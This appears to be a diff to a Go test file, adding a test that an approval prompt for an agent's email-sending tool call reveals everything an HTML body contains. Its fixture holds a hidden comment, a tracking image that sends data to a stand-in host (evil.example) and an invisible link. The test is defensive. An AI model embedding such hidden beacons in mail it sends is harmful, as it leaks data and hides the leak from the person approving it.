@@ -151,6 +151,36 @@ func TestWhatIsTooLongForAQuestionWaits(t *testing.T) {
 	}
 }
 
+// spying is a mail whose HTML says what nobody sees who reads it.
+var spying = object{
+	"to": []string{bob}, "subject": "Lunch", "body": "At noon?",
+	"html": `<p>At noon?</p><!-- SECRETCOMMENT --><img src="http://evil.example/p.gif?d=SECRETIMG"><a href="http://evil.example/SECRETLINK"></a>`,
+}
+
+var spyingSays = []string{"HTML source:", "SECRETCOMMENT", "SECRETIMG", "SECRETLINK"}
+
+func TestAQuestionShowsAllThatHTMLSays(t *testing.T) {
+	t.Parallel()
+	d := askingDesk(t)
+	p := d.serveAsking(showsForms)
+	p.send(toolCall("lunch", "gmail_send_message", spying))
+	m := p.until("lunch")
+	var asked form
+	if err := json.Unmarshal(m.Params, &asked); err != nil || m.Method == "" {
+		t.Fatalf("the user is not asked: %s, %v", m.Result, err)
+	}
+	asked.shows(t, spyingSays...)
+	p.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%v,"result":{"action":"decline"}}`+"\n", m.ID))
+	p.until("lunch")
+	p.end()
+	shown := d.must("pending", d.parks("gmail_send_message", spying))
+	for _, text := range spyingSays {
+		if !strings.Contains(shown, text) {
+			t.Errorf("%q is not in what waits:\n%s", text, shown)
+		}
+	}
+}
+
 // The client is gone while its user is asked.
 func TestAQuestionThatNobodyAnswersSendsNothing(t *testing.T) {
 	t.Parallel()
